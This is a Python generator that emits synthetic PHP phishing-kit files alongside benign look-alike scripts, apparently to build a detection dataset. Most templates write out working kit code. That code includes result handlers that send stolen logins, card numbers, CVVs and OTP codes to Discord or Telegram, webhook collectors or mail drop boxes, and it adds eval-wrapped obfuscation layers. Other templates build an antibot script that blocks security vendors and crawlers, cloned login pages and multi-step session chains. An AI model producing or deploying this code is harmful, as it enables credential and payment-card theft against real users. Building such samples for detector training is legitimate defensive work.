                   g.fn("curl_setopt"), c, g.fn("curl_exec"), c, g.fn("curl_close"), c))
    hook = "$" + r.choice(["webhook", "hook", "discord"])
    if not split:
        g.stmt("%s = %s;" % (hook, g.enc("https://discord.com/api/webhooks/%d/%s" % (r.randint(10 ** 17, 10 ** 18), g.ident() + "Zk3"),
                                         allow=["plain", "concat", "strrev"])))
    c = g.var()
    return ("%s = %s(%s);\n%s(%s, CURLOPT_HTTPHEADER, array('Content-Type: application/json'));\n"
            "%s(%s, CURLOPT_POSTFIELDS, %s(array('content' => %s)));\n%s(%s);"
            % (c, g.fn("curl_init"), hook, g.fn("curl_setopt"), c, g.fn("curl_setopt"), c, g.fn("json_encode"), m,
               g.fn("curl_exec"), c))


def ph_redirect(g, url):
    r = g.rng
    x = r.randrange(4)
    if x == 0:
        return "%s(%s);\nexit;" % (g.fn("header"), g.lit("Location: " + url))
    if x == 1:
        return "%s(\"Location: %s\");" % (g.fn("header"), url)
    if x == 2:
        return "echo %s;" % g.lit("<script>window.location.href='%s';</script>" % url)
    return "%s(%s);" % (g.fn("header"), g.lit("Location: " + r.choice(["step2.php", "verify.php?session=1", "loading.php"])))


def ph_handler(g, fields, title):
    """The common body of a result script: fields, fingerprint, message, send, redirect."""
    r = g.rng
    brand, url = r.choice(PH_BRANDS)
    pairs = [(lab, ph_post(g, k)) for lab, k in fields]
    pairs += ph_fingerprint(g)
    pre = g.take()
    m, build = ph_message(g, pairs, title % brand if "%s" in title else title)
    send = ph_exfil(g, m, brand, split=r.random() < 0.25)
    if r.random() < 0.3:
        send += "\n" + ph_exfil(g, m, brand, split=False)  # kits often send twice
    pre += g.take()
    if r.random() < 0.3:
        pre.insert(0, "session_start();")
    body = "\n".join(pre) + "\n" + build + "\n" + send + "\n" + ph_redirect(g, url)
    if r.random() < 0.15:  # the whole handler as an eval layer, as kit sellers ship them
        layer, kind = gz_layer(body, r)
        g.transforms.add("eval-layer:" + kind)
        body = "%s(%s);" % (g.fn("eval"), layer)
    return php_file(g, body)


def p_login_result(g):
    r = g.rng
    ren = r.random() < 0.2
    if ren:
        g.transforms.add("renamed-fields")
    fields = [("Email", ph_key(g, PH_USER_KEYS, ren)), ("Password", ph_key(g, PH_PASS_KEYS, ren))]
    if r.random() < 0.3:
        fields.append(("Password (again)", ph_key(g, PH_PASS_KEYS, ren) + "2"))
    return ph_handler(g, fields, r.choice(["%s Login", "ReZulT %s", "New Log %s", "%s Account"]))


def p_card_result(g):
    r = g.rng
    ren = r.random() < 0.2
    if ren:
        g.transforms.add("renamed-fields")
    keys = r.choice(PH_CARD_KEYS)
    labels = ["Card Number", "CVV", "Expiry", "Extra", "Extra2"]
    fields = [("Name on card", ph_key(g, ["cardholder", "fullname", "name"], ren))]
    fields += [(labels[i], ph_key(g, [k], ren)) for i, k in enumerate(keys)]
    return ph_handler(g, fields, r.choice(["%s Billing", "CC %s", "Fullz %s", "%s Card"]))


def p_otp_relay(g):
    r = g.rng
    ren = r.random() < 0.2
    if ren:
        g.transforms.add("renamed-fields")
    fields = [("Email", ph_key(g, PH_USER_KEYS, ren)), ("OTP", ph_key(g, PH_OTP_KEYS, ren))]
    return ph_handler(g, fields, r.choice(["%s OTP", "2FA code %s", "%s SMS"]))


def p_post_dump(g):
    """Every posted field, whatever it is called, into the message: no key to see."""
    r = g.rng
    g.transforms.add("post-dump")
    fp = ph_fingerprint(g)
    pre = g.take()
    m, k, v = g.var(), g.var(), g.var()
    brand, url = r.choice(PH_BRANDS)
    build = "%s = %s;\nforeach ($_POST as %s => %s) {\n    %s .= %s . \": \" . %s . \"\\n\";\n}\n" % (
        m, g.lit("+++ %s +++\n" % brand), k, v, m, k, v)
    build += "\n".join("%s .= %s . %s . \"\\n\";" % (m, g.lit(lab + ": "), e) for lab, e in fp)
    send = ph_exfil(g, m, brand, split=r.random() < 0.25)
    pre += g.take()
    return php_file(g, "\n".join(pre) + "\n" + build + "\n" + send + "\n" + ph_redirect(g, url))


PH_VENDOR_HOSTS = ["phishtank", "netcraft", "paypal", "google", "amazonaws", "kaspersky", "bitdefender", "trendmicro",
                   "symantec", "mcafee", "sophos", "fortinet", "cyveillance", "spamhaus", "virustotal", "urlscan",
                   "msnbot", "bingbot", "yandex", "above.net", "softlayer", "digitalocean", "ovh", "tor-exit"]
PH_BOT_UAS = ["bot", "crawler", "spider", "curl", "wget", "python-requests", "scan", "phish", "headless", "archiver"]


def p_antibot(g):
    r = g.rng
    ip, host, ua = g.var(), g.var(), g.var()
    hosts = r.sample(PH_VENDOR_HOSTS, r.randint(6, 14))
    nets = ["%d.%d." % (r.choice([64, 66, 72, 74, 207, 209, 216, 38, 157]), r.randint(0, 255)) for _ in range(r.randint(8, 20))]
    uas = r.sample(PH_BOT_UAS, r.randint(4, 8))
    deny = r.choice(["%s(%s);\n    exit;" % (g.fn("header"), g.lit("HTTP/1.0 404 Not Found")),
                     "%s(%s);\n    %s;" % (g.fn("header"), g.lit("Location: https://www.google.com/"), r.choice(["exit", "die()"])),
                     "%s(403);\n    die(%s);" % (g.fn("http_response_code"), g.lit("<h1>403 Forbidden</h1>"))])
    lines = ["%s = $_SERVER[%s];" % (ip, g.lit("REMOTE_ADDR")),
             "%s = %s(%s);" % (host, g.fn("gethostbyaddr"), ip),
             "%s = %s($_SERVER[%s]);" % (ua, g.fn("strtolower"), g.lit("HTTP_USER_AGENT"))]
    hv, nv, uv, w = g.var(), g.var(), g.var(), g.var()
    lines.append("%s = array(%s);" % (hv, ", ".join(g.lit(h) for h in hosts)))
    lines.append("%s = array(%s);" % (nv, ", ".join(g.lit(n) for n in nets)))
    lines.append("%s = array(%s);" % (uv, ", ".join(g.lit(u) for u in uas)))
    style = r.randrange(2)
    if style == 0:
        lines.append("foreach (%s as %s) {\n    if (%s(%s, %s) !== false) {\n    %s\n    }\n}" % (hv, w, g.fn("stripos"), host, w, deny))
        lines.append("foreach (%s as %s) {\n    if (%s(%s, %s) === 0) {\n    %s\n    }\n}" % (nv, w, g.fn("strpos"), ip, w, deny))
        lines.append("foreach (%s as %s) {\n    if (%s(%s, %s) !== false) {\n    %s\n    }\n}" % (uv, w, g.fn("strpos"), ua, w, deny))
    else:
        lines.append("if (%s(\"/\" . %s(\"|\", %s) . \"/i\", %s) || %s(\"/^(\" . %s(\"|\", %s) . \")/\", %s)) {\n    %s\n}" % (
            g.fn("preg_match"), g.fn("implode"), hv, host, g.fn("preg_match"), g.fn("implode"), nv, ip, deny))
        lines.append("foreach (%s as %s) {\n    if (%s(%s, %s)) {\n    %s\n    }\n}" % (uv, w, g.fn("stristr"), ua, w, deny))
    return php_file(g, "\n".join(lines))


def p_landing_copy(g):
    r = g.rng
    d, src, fn_ = g.var(), g.lit(r.choice(["page", "login", "secure", "app"])), g.fname()
    a, b, f = g.var(), g.var(), g.var()
    rnd = r.choice(["md5(rand())", "substr(md5(uniqid()), 0, 12)", "md5(microtime() . rand(0, 99999))",
                    "sha1(time() . mt_rand())", "bin2hex(random_bytes(6))"])
    body = ("function %s(%s, %s)\n{\n    @mkdir(%s);\n    foreach (scandir(%s) as %s) {\n"
            "        if (%s == '.' || %s == '..') continue;\n"
            "        if (is_dir(%s . '/' . %s)) { %s(%s . '/' . %s, %s . '/' . %s); }\n"
            "        else { copy(%s . '/' . %s, %s . '/' . %s); }\n    }\n}\n"
            % (fn_, a, b, b, a, f, f, f, a, f, fn_, a, f, b, f, a, f, b, f))
    body += "%s = %s;\n%s(%s, %s);\n" % (d, rnd, fn_, src, d)
    q = r.choice(["", " . '?email=' . $_GET['email']", " . '/?' . $_SERVER['QUERY_STRING']"])
    body += "%s(\"Location: \" . %s%s);\n" % (g.fn("header"), d, q)
    return php_file(g, body)


def ph_login_html(g, brand, action, prefill):
    r = g.rng
    return verbatim(
        "<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Sign in - %s</title>\n"
        "<link rel=\"icon\" href=\"favicon.ico\"></head>\n<body class=\"login\">\n<div class=\"box\">\n"
        "<img src=\"images/logo.png\" alt=\"%s\">\n<h1>%s</h1>\n"
        "<form method=\"%s\" action=\"%s\" id=\"f1\">\n"
        "<input type=\"%s\" name=\"%s\" placeholder=\"Email or phone\" value=\"%s\" required>\n"
        "<input type=\"password\" name=\"%s\" placeholder=\"Password\" required>\n"
        "<button type=\"submit\">%s</button>\n</form>\n<p class=\"small\">&copy; %d %s</p>\n</div>\n</body></html>\n"
        % (brand, brand, r.choice(["Sign in", "Verify your account", "Confirm your identity", "Session expired, please log in again"]),
           r.choice(["post", "POST"]), action, r.choice(["email", "text"]), r.choice(PH_USER_KEYS), prefill,
           r.choice(PH_PASS_KEYS), r.choice(["Sign in", "Next", "Continue", "Verify"]), r.randint(2019, 2025), brand))


def p_login_clone_html(g):
    r = g.rng
    brand, _ = r.choice(PH_BRANDS)
    action = r.choice(["post.php", "next.php", "login.php", "send/mail.php", "verify.php", "https://drop.example-host.ru/g.php"])
    return strip_marks(ph_login_html(g, brand, action, ""))


def p_session_expired(g):
    """cPanel/webmail 'session expired' page with the victim's address filled in from the link."""
    r = g.rng
    brand = r.choice(["cPanel Webmail", "Roundcube Webmail", "Zimbra Web Client", "Outlook Web App", "Webmail"])
    pre = r.choice(["<?php echo $_GET['email']; ?>", "<?= htmlspecialchars($_GET['e']) ?>",
                    "<?php echo @$_REQUEST['login']; ?>"])
    act = r.choice(["auth.php", "index2.php", "post.php"])
    head = r.choice(["", "<?php include 'antibot.php'; ?>\n", "<?php require_once('blocker.php'); ?>\n",
                     "<?php session_start(); ?>\n"])
    return head + strip_marks(ph_login_html(g, brand, act, pre))


# ---- benign look-alikes of real sites


def pb_contact_form(g):
    r = g.rng
    owner = r.choice(["info@example.com", "office@acme-bakery.example", "support@example.org"])
    body = ("if ($_SERVER['REQUEST_METHOD'] !== 'POST') {\n    header('Location: contact.html');\n    exit;\n}\n"
            "$name = trim(strip_tags($_POST['name'] ?? ''));\n$email = filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL);\n"
            "$message = trim($_POST['message'] ?? '');\nif (!$email || $name === '' || $message === '') {\n"
            "    exit('Please fill in every field.');\n}\n"
            "$body = \"Name: \" . $name . \"\\nEmail: \" . $email . \"\\n\\n\" . $message . \"\\n\\nIP: \" . $_SERVER['REMOTE_ADDR'] . \"\\nBrowser: \" . $_SERVER['HTTP_USER_AGENT'];\n"
            "mail(%s, 'Website contact: ' . $name, $body, 'Reply-To: ' . $email);\n"
            "header('Location: %s');\n" % (php_sq(owner), r.choice(["thanks.html", "https://www.example.com/thank-you/"])))
    return php_file(g, body)


def pb_login_handler(g):
    r = g.rng
    u = r.choice(["username", "email", "login"])
    body = ("session_start();\nrequire __DIR__ . '/db.php';\n"
            "$user = $_POST['%s'] ?? '';\n$pass = $_POST['%s'] ?? '';\n"
            "$st = $pdo->prepare('SELECT id, password_hash FROM users WHERE %s = ?');\n$st->execute(array($user));\n"
            "$row = $st->fetch();\nif ($row && password_verify($pass, $row['password_hash'])) {\n"
            "    session_regenerate_id(true);\n    $_SESSION['uid'] = $row['id'];\n    header('Location: /dashboard.php');\n    exit;\n}\n"
            "$fh = fopen(__DIR__ . '/logs/auth.log', 'a');\n"
            "fwrite($fh, date('c') . ' failed login for ' . $user . ' from ' . $_SERVER['REMOTE_ADDR'] . \"\\n\");\nfclose($fh);\n"
            "header('Location: /login.php?error=1');\n" % (u, r.choice(["password", "pass", "pwd"]), u))
    return php_file(g, body)


def pb_newsletter_signup(g):
    body = ("require 'db.php';\n$email = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);\nif (!$email) {\n    exit('invalid address');\n}\n"
            "$token = bin2hex(random_bytes(16));\n"
            "$pdo->prepare('INSERT INTO subscribers (email, token, ip, created) VALUES (?, ?, ?, NOW())')->execute(array($email, $token, $_SERVER['REMOTE_ADDR']));\n"
            "$link = 'https://www.example.com/confirm.php?t=' . $token;\n"
            "mail($email, 'Please confirm your subscription', \"Click to confirm: \" . $link, 'From: news@example.com');\n"
            "header('Location: https://www.example.com/newsletter/thanks');\n")
    return php_file(g, body)


def pb_geo_analytics(g):
    r = g.rng
    body = ("function acme_visit_country($ip)\n{\n    $cache = __DIR__ . '/cache/geo-' . md5($ip);\n"
            "    if (is_file($cache)) {\n        return file_get_contents($cache);\n    }\n"
            "    $j = json_decode(@file_get_contents('%s' . urlencode($ip)), true);\n"
            "    $c = isset($j['country']) ? $j['country'] : '??';\n    file_put_contents($cache, $c);\n    return $c;\n}\n"
            "$ip = $_SERVER['REMOTE_ADDR'];\n$line = date('c') . \"\\t\" . $ip . \"\\t\" . acme_visit_country($ip) . \"\\t\" . $_SERVER['HTTP_USER_AGENT'] . \"\\t\" . $_SERVER['REQUEST_URI'] . \"\\n\";\n"
            "file_put_contents(__DIR__ . '/stats/visits.log', $line, FILE_APPEND | LOCK_EX);\n"
            % r.choice(["http://ip-api.com/json/", "https://ipinfo.io/json?ip=", "http://www.geoplugin.net/json.gp?ip="]))
    return php_file(g, body)


def pb_badbot_blocker(g):
    r = g.rng
    bots = r.sample(["AhrefsBot", "SemrushBot", "MJ12bot", "DotBot", "BLEXBot", "PetalBot", "Bytespider", "MegaIndex",
                     "SeznamBot", "serpstatbot", "DataForSeoBot"], 6)
    body = ("/* Plugin Name: Bad Bot Blocker - blocks aggressive SEO crawlers that ignore robots.txt */\n"
            "function bbb_block_bots()\n{\n    $ua = isset($_SERVER['HTTP_USER_AGENT']) ? $_SERVER['HTTP_USER_AGENT'] : '';\n"
            "    $bots = array(%s);\n    foreach ($bots as $b) {\n        if (stripos($ua, $b) !== false) {\n"
            "            status_header(403);\n            error_log('bbb: blocked ' . $b . ' from ' . $_SERVER['REMOTE_ADDR']);\n            exit;\n        }\n    }\n}\n"
            "add_action('init', 'bbb_block_bots');\n" % ", ".join(php_sq(b) for b in bots))
    return php_file(g, body)


def pb_password_reset(g):
    body = ("require 'bootstrap.php';\n$email = filter_var($_POST['email'] ?? '', FILTER_VALIDATE_EMAIL);\n"
            "$user = $email ? User::findByEmail($email) : null;\nif ($user) {\n    $token = bin2hex(random_bytes(32));\n"
            "    $user->saveResetToken(hash('sha256', $token), time() + 3600);\n"
            "    $msg = \"Someone asked to reset the password of your account.\\n\" .\n"
            "        \"Reset it here: https://www.example.com/reset.php?t=\" . $token . \"\\n\" .\n"
            "        \"Requested from IP \" . $_SERVER['REMOTE_ADDR'] . \". If it was not you, ignore this mail.\";\n"
            "    mail($user->email, 'Password reset', $msg, 'From: no-reply@example.com');\n}\n"
            "header('Location: /login.php?reset=sent');\n")
    return php_file(g, body)


def pb_payment_gateway(g):
    r = g.rng
    body = ("require 'vendor/autoload.php';\nsession_start();\n"
            "$payload = array(\n    'amount' => (int) $_SESSION['cart_total'],\n    'currency' => 'eur',\n"
            "    'card' => array('number' => $_POST['cardnumber'], 'cvc' => $_POST['cvc'], 'exp' => $_POST['exp']),\n"
            "    'description' => 'Order ' . $_SESSION['order_id'],\n);\n"
            "$ch = curl_init('https://api.%s/v1/charges');\ncurl_setopt($ch, CURLOPT_USERPWD, getenv('GATEWAY_KEY') . ':');\n"
            "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($payload));\ncurl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n"
            "$res = json_decode(curl_exec($ch), true);\n"
            "mail('shop@example.com', 'New order ' . $_SESSION['order_id'], 'Paid: ' . $res['status'] . ' from ' . $_SERVER['REMOTE_ADDR']);\n"
            "header('Location: https://shop.example.com/receipt.php?o=' . urlencode($_SESSION['order_id']));\n"
            % r.choice(["paygate.example", "payments.example.net", "checkout.example.com"]))
    return php_file(g, body)


def pb_telegram_orders(g):
    body = ("$token = getenv('TG_TOKEN');\n$chat = getenv('TG_CHAT');\n"
            "$text = \"New order\\nName: \" . $_POST['name'] . \"\\nPhone: \" . $_POST['phone'] . \"\\nAddress: \" . $_POST['address'];\n"
            "file_get_contents('https://api.telegram.org/bot' . $token . '/sendMessage?chat_id=' . $chat . '&text=' . urlencode($text));\n"
            "header('Location: /thanks.html');\n")
    return php_file(g, body)


def pb_register(g):
    body = ("require 'db.php';\n$u = trim($_POST['username']);\n$e = filter_var($_POST['email'], FILTER_VALIDATE_EMAIL);\n"
            "$p = $_POST['password'];\nif (strlen($p) < 10 || !$e) {\n    exit('weak password or bad address');\n}\n"
            "$pdo->prepare('INSERT INTO users (username, email, password_hash, ip) VALUES (?, ?, ?, ?)')\n"
            "    ->execute(array($u, $e, password_hash($p, PASSWORD_DEFAULT), $_SERVER['REMOTE_ADDR']));\n"
            "mail($e, 'Welcome', \"Hello \" . $u . \", your account is ready. Your password is the one you chose.\");\n"
            "header('Location: https://www.example.com/welcome');\n")
    return php_file(g, body)


def pb_real_login_page(g):
    """A real application's own sign-in page: a brand (its own), a password field, a local action."""
    r = g.rng
    app = r.choice(["Acme Intranet", "Roundcube Webmail", "phpMyAdmin", "Nextcloud"])
    return ("<?php\nrequire 'lib/session.php';\n$csrf = csrf_token();\n?>\n"
            + strip_marks(ph_login_html(g, app, "login.php", "")).replace(
                "</form>", "<input type=\"hidden\" name=\"csrf\" value=\"<?php echo $csrf; ?>\">\n</form>"))


# ---- second phishing session (issue 12): the channels the first templates do
# not use — a webhook or the author's own collector (curl, a stream context,
# WordPress's HTTP API), a mailer object, a Telegram API whose host is in a
# config file — and the multi-step kit: the session that carries the login to
# the card and OTP steps, the redirect handler. Invented from the technique.

PH_COLLECTORS = ["https://webhook.site/%s-4f1c", "https://hooks.zapier.example/catch/%s/",
                 "https://%s.workers.dev/collect", "http://185.%d.%d.7/gate.php", "https://drop-%s.top/in.php",
                 "https://api.%s.ru/v1/log"]


def ph_collector_url(g):
    r = g.rng
    u = r.choice(PH_COLLECTORS)
    if "%d" in u:
        return u % (r.randint(1, 254), r.randint(1, 254))
    return u % g.ident().lower().strip("_")[:8]


def ph_exfil_http(g, m, fields, split):
    """Post the loot to a collector that is not a messenger. m is the text;
    fields the (label, expression) pairs, for the structured form."""
    r = g.rng
    url = "$" + r.choice(["url", "endpoint", "gate", "hook", "api"])
    if split:
        g.transforms.add("split-config")
        g.stmt("%s %s;" % (r.choice(["include", "require_once"]), g.lit(r.choice(["config.php", "set.php", "../conf.php"]))))
    else:
        g.stmt("%s = %s;" % (url, g.enc(ph_collector_url(g), allow=["plain", "plain", "concat"])))
    structured = r.random() < 0.3
    if structured:  # the fields one by one, as an API would take them
        g.transforms.add("structured")
        data = "array(%s)" % ", ".join("%s => %s" % (g.lit(lab.lower().replace(" ", "_")), e) for lab, e in fields)
    else:
        data = "array(%s => %s)" % (g.lit(r.choice(["text", "content", "message", "data", "log"])), m)
    ch = r.choice(["curl", "curl", "curl_array", "context", "wp"])
    g.transforms.add("http:" + ch)
    c = g.var()
    enc = r.choice(["json_encode", "http_build_query"])
    if ch == "curl":
        return ("%s = %s();\n%s(%s, CURLOPT_URL, %s);\n%s(%s, CURLOPT_POST, true);\n"
                "%s(%s, CURLOPT_POSTFIELDS, %s(%s));\n%s(%s, CURLOPT_RETURNTRANSFER, 1);\n%s%s(%s);"
                % (c, g.fn("curl_init"), g.fn("curl_setopt"), c, url, g.fn("curl_setopt"), c,
                   g.fn("curl_setopt"), c, g.fn(enc), data, g.fn("curl_setopt"), c, g.at(), g.fn("curl_exec"), c))
    if ch == "curl_array":
        return ("%s = %s();\n%s(%s, array(CURLOPT_URL => %s, CURLOPT_POST => 1, CURLOPT_POSTFIELDS => %s(%s), "
                "CURLOPT_RETURNTRANSFER => true, CURLOPT_SSL_VERIFYPEER => false));\n%s(%s);"
                % (c, g.fn("curl_init"), g.fn("curl_setopt_array"), c, url, g.fn(enc), data, g.fn("curl_exec"), c))
    if ch == "context":
        x = g.var()
        return ("%s = %s(array('http' => array('method' => 'POST', 'header' => %s, 'content' => %s(%s))));\n"
                "%s%s(%s, false, %s);"
                % (x, g.fn("stream_context_create"), g.lit("Content-type: application/x-www-form-urlencoded"),
                   g.fn(enc), data, g.at(), g.fn("file_get_contents"), url, x))
    return "%s(%s, array('body' => %s, 'timeout' => 15));" % (g.fn("wp_remote_post"), url, data)


def ph_exfil_mailer(g, m, title, split):
    """A mailer object (PHPMailer) to the drop box."""
    r = g.rng
    o = g.var()
    if split:
        g.transforms.add("split-config")
        g.stmt("%s %s;" % (r.choice(["include", "require"]), g.lit(r.choice(["email.php", "config.php"]))))
        to = "$" + r.choice(["to", "send", "recipient", "resultbox"])
    else:
        to = g.enc(r.choice(PH_DROPS) % r.randint(1, 99), allow=["plain", "plain", "concat", "base64"])
    body = r.choice(["%s->Body = %s;" % (o, m), "%s->msgHTML(%s(%s));" % (o, g.fn("nl2br"), m),
                     "%s->isHTML(false);\n%s->Body = %s;\n%s->AltBody = %s;" % (o, o, m, o, m)])
    return ("require_once %s;\n%s = new %s();\n%s->setFrom(%s, %s);\n%s->addAddress(%s);\n%s->Subject = %s;\n%s\n%s%s->send();"
            % (g.lit(r.choice(["PHPMailer/PHPMailerAutoload.php", "vendor/autoload.php", "mailer/class.phpmailer.php"])),
               o, r.choice(["PHPMailer", "PHPMailer\\PHPMailer\\PHPMailer"]), o, g.lit("noreply@" + r.choice(["secure.net", "server.com"])),
               g.lit(title), o, to, o, g.lit(title + " " + r.choice(["Login", "Rezult", "Info"])), body, g.at(), o))


def ph_exfil_tg_hidden(g, m):
    """Telegram with the API host, the token and the chat in a config file."""
    r = g.rng
    g.transforms.add("split-config")
    g.stmt("%s %s;" % (r.choice(["include", "require", "require_once"]), g.lit(r.choice(["tg.php", "config.php", "../bot.php"]))))
    api = "$" + r.choice(["api", "tg_api", "bot_url", "website"])
    chat = "$" + r.choice(["chat_id", "chatid", "id"])
    if r.random() < 0.5:
        return "%s%s(%s . \"/sendMessage?chat_id=\" . %s . \"&text=\" . %s(%s));" % (
            g.at(), g.fn("file_get_contents"), api, chat, g.fn("urlencode"), m)
    c = g.var()
    return ("%s = %s(%s . '/sendMessage');\n%s(%s, CURLOPT_POSTFIELDS, array('chat_id' => %s, 'text' => %s, 'parse_mode' => 'HTML'));\n%s(%s);"
            % (c, g.fn("curl_init"), api, g.fn("curl_setopt"), c, chat, m, g.fn("curl_exec"), c))


def ph_handler2(g, fields, title, channel):
    """A result script over the second set of channels."""
    r = g.rng
    brand, url = r.choice(PH_BRANDS)
    pairs = [(lab, ph_post(g, k)) for lab, k in fields]
    pairs += ph_fingerprint(g)
    pre = g.take()
    m, build = ph_message(g, pairs, title % brand if "%s" in title else title)
    split = r.random() < 0.3
    if channel == "http":
        send = ph_exfil_http(g, m, pairs, split)
    elif channel == "mailer":
        send = ph_exfil_mailer(g, m, brand, split)
    else:
        send = ph_exfil_tg_hidden(g, m)
    pre += g.take()
    if r.random() < 0.3:
        pre.insert(0, "session_start();")
    body = "\n".join(pre) + "\n" + build + "\n" + send + "\n" + ph_redirect(g, url)
    return php_file(g, body)


def ph_fields(g):
    r = g.rng
    ren = r.random() < 0.15
    if ren:
        g.transforms.add("renamed-fields")
    kind = r.randrange(3)
    if kind == 0:
        return [("Email", ph_key(g, PH_USER_KEYS, ren)), ("Password", ph_key(g, PH_PASS_KEYS, ren))]
    if kind == 1:
        keys = r.choice(PH_CARD_KEYS)
        return [("Card", ph_key(g, [keys[0]], ren)), ("CVV", ph_key(g, [keys[1]], ren)), ("Exp", ph_key(g, [keys[2]], ren))]
    return [("User", ph_key(g, PH_USER_KEYS, ren)), ("Code", ph_key(g, PH_OTP_KEYS, ren))]


def p_webhook_result(g):
    return ph_handler2(g, ph_fields(g), g.rng.choice(["%s Login", "New Log %s", "Rezult %s"]), "http")


def p_mailer_result(g):
    return ph_handler2(g, ph_fields(g), g.rng.choice(["%s Login", "Full Info %s", "%s Card"]), "mailer")


def p_tg_hidden_result(g):
    return ph_handler2(g, ph_fields(g), g.rng.choice(["%s Log", "ReZulT %s"]), "tg")


PH_SESSION_KEYS = [("email", "password"), ("user", "pass"), ("login", "passwd"), ("ai", "pr"), ("mail", "pwd")]


def p_session_step(g):
    """The middle step: keep what was posted in the session, send the visitor on."""
    r = g.rng
    u = r.choice(PH_SESSION_KEYS)[0]
    lines = ["session_start();"]
    if r.random() < 0.5:
        lines.append("%s %s;" % (r.choice(["include", "require_once"]), g.lit(r.choice(["antibot.php", "blocker.php", "../anti/bots.php"]))))
    src = r.choice(["$_POST", "$_POST", "$_REQUEST"])
    pk = r.choice(["password", "pass", "passwd", "pwd", "ccnum", "cvv", "otp", "pin"])
    lines.append("$_SESSION[%s] = %s[%s];" % (g.lit(u), src, g.lit(r.choice(PH_USER_KEYS))))
    val = "%s[%s]" % (src, g.lit(pk))
    wrap = r.choice(["", "", "trim", "htmlspecialchars"])
    if wrap:
        val = "%s(%s)" % (g.fn(wrap), val)
    lines.append("$_SESSION[%s] = %s;" % (g.lit(pk), val))
    if r.random() < 0.5:
        lines.append("$_SESSION['ip'] = $_SERVER['REMOTE_ADDR'];")
    nxt = r.choice(["card.php", "verify.php", "billing.php", "otp.php", "step3.php"])
    red = r.randrange(3)
    if red == 0:
        lines.append("%s(%s . %s(%s()));\nexit;" % (g.fn("header"), g.lit("Location: %s?session=" % nxt), g.fn("md5"), r.choice(["time", "uniqid", "microtime"])))
    elif red == 1:
        lines.append("%s(%s);" % (g.fn("header"), g.lit("Location: %s" % nxt)))
    else:
        lines.append("echo %s;" % g.lit("<meta http-equiv=\"refresh\" content=\"0;url=%s\">" % nxt))
    return php_file(g, "\n".join(lines))


def p_session_result(g):
    """The last step: what the earlier steps kept in the session, and the code just posted, sent away."""
    r = g.rng
    u = r.choice(PH_SESSION_KEYS)[0]
    otp = r.choice(PH_OTP_KEYS)
    pairs = [("Email", "$_SESSION[%s]" % g.lit(u)), ("Password", "$_SESSION[%s]" % g.lit(r.choice(["password", "pass", "passwd", "pwd"]))),
             ("Card", "$_SESSION[%s]" % g.lit(r.choice(["ccnum", "cardnumber", "card_no"]))),
             ("CVV", "$_SESSION[%s]" % g.lit(r.choice(["cvv", "cvc"]))), ("OTP", ph_post(g, otp))]
    pairs += ph_fingerprint(g)
    pre = g.take()
    m, build = ph_message(g, pairs, "Full Info")
    send = ph_exfil(g, m, "Full", split=r.random() < 0.25)
    pre += g.take()
    pre.insert(0, "session_start();")
    brand, url = r.choice(PH_BRANDS)
    body = "\n".join(pre) + "\n" + build + "\n" + send + "\nsession_destroy();\n" + ph_redirect(g, url)
    return php_file(g, body)


def p_redirect_handler(g):
    """The link's target: the victim's address carried on into the kit with a random session."""
    r = g.rng
    e = g.var()
    k = r.choice(["email", "e", "u", "login", "ai"])
    lines = ["%s = $_GET[%s];" % (e, g.lit(k))]
    if r.random() < 0.4:
        lines.insert(0, "%s %s;" % (r.choice(["include", "require_once"]), g.lit(r.choice(["antibot.php", "blocker.php"]))))
    if r.random() < 0.3:
        lines.append("%s = %s(%s);" % (e, g.fn(r.choice(["base64_decode", "trim"])), e))
    rnd = r.choice(["md5(time())", "md5(uniqid(rand(), true))", "sha1(microtime())", "md5(rand(100, 999999))"])
    tgt = r.choice(["signin/index.php", "login.php", "./auth/", "office/index.php"])
    lines.append("header(\"Location: %s?%s=\" . %s . \"&session=\" . %s . \"&rand=\" . %s);\nexit;" % (
        tgt, r.choice(["email", "login", "e"]), e, rnd, rnd))
    return php_file(g, "\n".join(lines))


# ---- benign look-alikes of the second session


def pb_oauth_password_login(g):
    body = ("session_start();\n$cfg = require __DIR__ . '/config.php';\n$ch = curl_init($cfg['idp_url'] . '/oauth/token');\n"
            "curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('grant_type' => 'password', 'client_id' => $cfg['client_id'],\n"
            "    'username' => $_POST['username'], 'password' => $_POST['password'], 'scope' => 'openid')));\n"
            "curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n$tok = json_decode(curl_exec($ch), true);\n"
            "if (!empty($tok['access_token'])) {\n    session_regenerate_id(true);\n    $_SESSION['token'] = $tok['access_token'];\n"
            "    header('Location: /app/');\n    exit;\n}\nheader('Location: /login.php?error=1');\n")
    return php_file(g, body)


def pb_gateway_fraud_check(g):
    r = g.rng
    body = ("$payload = array(\n    'card_number' => $_POST['card_number'],\n    'cvv' => $_POST['cvv'],\n"
            "    'exp' => $_POST['exp_month'] . '/' . $_POST['exp_year'],\n    'amount' => (int) $_SESSION['total'],\n"
            "    'customer_ip' => $_SERVER['REMOTE_ADDR'],\n    'browser' => $_SERVER['HTTP_USER_AGENT'],\n);\n"
            "$ch = curl_init();\ncurl_setopt_array($ch, array(CURLOPT_URL => 'https://api.%s/v2/payments', CURLOPT_POST => true,\n"
            "    CURLOPT_POSTFIELDS => json_encode($payload), CURLOPT_HTTPHEADER => array('Authorization: Bearer ' . getenv('PAY_KEY')),\n"
            "    CURLOPT_RETURNTRANSFER => true));\n$res = json_decode(curl_exec($ch), true);\n"
            "error_log('payment ' . $res['id'] . ' card ending ' . substr($_POST['card_number'], -4));\n"
            "header('Location: /order/thanks?id=' . urlencode($res['id']));\n"
            % r.choice(["paygate.example", "checkout.example.net", "acquirer.example.com"]))
    return php_file(g, body)


def pb_recaptcha_login(g):
    body = ("session_start();\nrequire 'db.php';\n"
            "$check = json_decode(file_get_contents('https://www.google.com/recaptcha/api/siteverify?secret=' . RECAPTCHA_SECRET .\n"
            "    '&response=' . urlencode($_POST['g-recaptcha-response']) . '&remoteip=' . $_SERVER['REMOTE_ADDR']), true);\n"
            "if (empty($check['success'])) {\n    exit('captcha failed');\n}\n"
            "$st = $pdo->prepare('SELECT id, hash FROM users WHERE email = ?');\n$st->execute(array($_POST['email']));\n$u = $st->fetch();\n"
            "if ($u && password_verify($_POST['password'], $u['hash'])) {\n    $_SESSION['uid'] = $u['id'];\n    header('Location: /account');\n    exit;\n}\n")
    return php_file(g, body)


